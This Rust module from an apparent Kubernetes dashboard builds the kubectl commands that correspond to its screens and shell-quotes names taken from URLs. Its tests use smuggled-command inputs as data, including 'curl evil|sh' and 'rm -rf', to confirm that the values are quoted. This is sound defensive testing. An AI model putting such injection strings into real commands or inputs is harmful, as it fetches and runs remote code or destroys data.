//! The `kubectl` commands that are equivalent to screens. Names are quoted for the shell, because
//! names come from URLs.

use crate::kind::Kind;
use crate::log::{LogRequest, Since};
use crate::shell::word;

/// The object of a kubectl command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct KubectlObject {
    /// The name of the cluster. The context in Drover's kubeconfig has the same name.
    pub cluster: String,
    /// The kind of the object.
    pub kind: Kind,
    /// The namespace; `None` for cluster-scoped objects.
    pub namespace: Option<String>,
    /// The name of the object.
    pub name: String,
}

/// Returns `kubectl` with the option `--context`.
fn context(cluster: &str) -> String {
    format!("kubectl --context {}", word(cluster))
}

/// Returns the `kubectl get` command for the objects of a kind.
pub fn list(kind: Kind, cluster: &str, namespace: Option<&str>, wide: bool) -> String {
    let place = match namespace {
        _ if !kind.namespaced => String::new(),
        Some(namespace) => format!(" --namespace {}", word(namespace)),
        None => " --all-namespaces".to_owned(),
    };
    let wide = if wide { " -o wide" } else { "" };
    format!("{} get {}{place}{wide}", context(cluster), kind.plural)
}

impl KubectlObject {
    /// Returns `kubectl` with the context and the namespace of the object.
    pub(crate) fn start(&self) -> String {
        let context = context(&self.cluster);
        match &self.namespace {
            Some(namespace) => format!("{context} --namespace {}", word(namespace)),
            None => context,
        }
    }

    /// Returns the API path of the object.
    pub fn api_path(&self) -> String {
        let namespace = self.namespace.as_deref();
        self.kind.object_path(&self.cluster, namespace, &self.name)
    }

    /// Returns the kind and the name of the object.
    pub(crate) fn thing(&self) -> String {
        format!("{} {}", self.kind.name.to_lowercase(), word(&self.name))
    }

    /// Returns the `kubectl top` command of the object. Returns `None` for workloads.
    pub fn top(&self) -> Option<String> {
        let kind = match self.kind {
            Kind::PODS => "pod",
            Kind::NODES => "node",
            _ => return None,
        };
        Some(format!("{} top {kind} {}", self.start(), word(&self.name)))
    }

    /// Returns the `kubectl describe` command of the object.
    pub fn describe(&self) -> String {
        format!("{} describe {}", self.start(), self.thing())
    }

    /// Returns the `kubectl events` command of the object.
    pub fn events(&self) -> String {
        let start = self.start();
        // Events of nodes are in the namespace `default`.
        let all = if self.kind.namespaced {
            ""
        } else {
            " --all-namespaces"
        };
        let on = word(&format!("{}/{}", self.kind.name.to_lowercase(), self.name));
        format!("{start} events{all} --for {on}")
    }

    /// Returns the `kubectl replace` command for an edited manifest of the object.
    pub fn replace(&self, language: &str) -> String {
        let file = word(&format!("{}.{language}", self.name));
        format!("{} replace --filename {file}", self.start())
    }

    /// Returns the `kubectl get -o yaml` command of the object.
    pub fn manifest(&self, language: &str, with_managed_fields: bool) -> String {
        let managed = if with_managed_fields {
            " --show-managed-fields"
        } else {
            ""
        };
        format!(
            "{} get {} -o {language}{managed}",
            self.start(),
            self.thing()
        )
    }
}

/// Returns the `kubectl logs` command of a request.
pub fn logs(request: &LogRequest, with_times: bool) -> String {
    let target = format!("{} {}", word(&request.pod), container(&request.container));
    logs_of(&target, request, with_times)
}

/// Returns the `kubectl logs` command for all pods of a workload. The pod of the request is ignored.
/// An empty container means all containers.
pub fn workload_logs(workload: &KubectlObject, request: &LogRequest, with_times: bool) -> String {
    let name = format!("{}/{}", workload.kind.name.to_lowercase(), workload.name);
    let container = container(&request.container);
    let target = format!("{} --all-pods --prefix {container}", word(&name));
    logs_of(&target, request, with_times)
}

fn container(name: &str) -> String {
    match name {
        "" => "--all-containers".to_owned(),
        name => format!("--container {}", word(name)),
    }
}

fn logs_of(target: &str, request: &LogRequest, with_times: bool) -> String {
    let mut line = format!(
        "{} --namespace {} logs {target}",
        context(&request.cluster),
        word(&request.namespace),
    );
    let mut add = |is: bool, option: &str| {
        if is {
            line.push(' ');
            line.push_str(option);
        }
    };
    add(request.previous, "--previous");
    add(request.follows(), "--follow");
    add(
        request.since != Since::Begin,
        &format!("--since {}", request.since.key()),
    );
    add(true, &format!("--tail {}", request.tail));
    add(with_times, "--timestamps");
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(kind: Kind, namespace: Option<&str>, name: &str) -> KubectlObject {
        KubectlObject {
            cluster: "berlin".to_owned(),
            kind,
            namespace: namespace.map(str::to_owned),
            name: name.to_owned(),
        }
    }

    #[test]
    fn object_page_shows_equivalent_kubectl_commands() {
        let pod = named(Kind::PODS, Some("shop"), "web-0");
        let start = "kubectl --context berlin --namespace shop";
        assert_eq!(pod.describe(), format!("{start} describe pod web-0"));
        assert_eq!(pod.events(), format!("{start} events --for pod/web-0"));
        assert_eq!(
            pod.manifest("yaml", true),
            format!("{start} get pod web-0 -o yaml --show-managed-fields")
        );
        assert_eq!(
            pod.replace("yaml"),
            format!("{start} replace --filename web-0.yaml")
        );
        let node = named(Kind::NODES, None, "n1");
        assert_eq!(
            node.events(),
            "kubectl --context berlin events --all-namespaces --for node/n1"
        );
    }

    #[test]
    fn list_has_an_equivalent_kubectl_command() {
        let list = |kind, namespace, wide| list(kind, "berlin", namespace, wide);
        let start = "kubectl --context berlin get";
        for (line, expected) in [
            (list(Kind::PODS, None, false), "pods --all-namespaces"),
            (
                list(Kind::PODS, Some("shop"), true),
                "pods --namespace shop -o wide",
            ),
            (list(Kind::NODES, Some("shop"), false), "nodes"),
            (
                list(Kind::PODS, Some("shop; curl evil|sh\n"), false),
                "pods --namespace 'shop; curl evil|sh\n'",
            ),
        ] {
            assert_eq!(line, format!("{start} {expected}"));
        }
    }

    #[test]
    fn names_from_the_url_are_quoted_in_commands() {
        let evil = named(Kind::PODS, Some("-x"), "a; rm -rf 'b'");
        assert_eq!(
            evil.describe(),
            r"kubectl --context berlin --namespace -x describe pod 'a; rm -rf '\''b'\'''"
        );
    }

    #[test]
    fn log_command_contains_the_selected_options() {
        let request = LogRequest {
            cluster: "berlin".to_owned(),
            namespace: "shop".to_owned(),
            pod: "web-0".to_owned(),
            container: "web".to_owned(),
            previous: false,
            follow: true,
            since: Since::Minutes(60),
            tail: 100,
        };
        assert_eq!(
            logs(&request, true),
            "kubectl --context berlin --namespace shop logs web-0 --container web --follow --since 1h \
             --tail 100 --timestamps"
        );
        let workload = named(Kind::of_plural("deployments").unwrap(), Some("shop"), "web");
        let all = LogRequest {
            container: String::new(),
            ..request
        };
        assert_eq!(
            workload_logs(&workload, &all, false),
            "kubectl --context berlin --namespace shop logs deployment/web --all-pods --prefix \
             --all-containers --follow --since 1h --tail 100"
        );
    }
}
